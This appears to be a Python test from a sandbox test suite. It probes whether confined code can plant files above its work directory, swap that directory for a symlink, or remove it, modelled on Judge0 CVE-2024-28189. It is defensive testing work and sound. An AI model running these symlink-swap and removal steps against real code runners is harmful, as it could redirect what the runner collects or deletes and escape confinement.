"""Works on the directory above its own, which is the runner's: lists, plants, replaces its own by a link.

Whoever may replace the work directory decides what the runner collects and removes later
(Judge0, CVE-2024-28189).
"""

# /// attack
# threat = "symlink, hard link"
# expect = ["denied", "absent", "harmless"]
# ///

import errno
import os

from attack import Harmless, canary, run

HERE = os.getcwd()
ABOVE = os.path.dirname(HERE)


def plant() -> str:
    if ABOVE == "/":
        raise Harmless("above is the private root")
    path = os.path.join(ABOVE, "playpen-attack")
    with open(path, "x", encoding="ascii"):
        pass
    os.unlink(path)
    return f"planted in {ABOVE}"


def replace_by_a_link() -> str:
    aside = HERE + "-aside"
    os.rename(HERE, aside)
    try:
        os.symlink(canary("DIR"), HERE)
        os.unlink(HERE)
    finally:
        os.rename(aside, HERE)
    return "the work directory was a link for a moment"


def remove_itself() -> str:
    inner = os.open(".", os.O_RDONLY)
    os.mkdir("inner")
    os.chdir("inner")
    try:
        # Not empty, so it stays: what counts is whether it would be allowed.
        os.rmdir(HERE)
    except OSError as error:
        if error.errno != errno.ENOTEMPTY:
            raise
    finally:
        os.fchdir(inner)
    return "may remove its own directory"


run(
    plant,
    replace_by_a_link,
    remove_itself,
    denied=[errno.EROFS, errno.EBUSY, errno.EXDEV],
    absent=[errno.ENOENT],
)
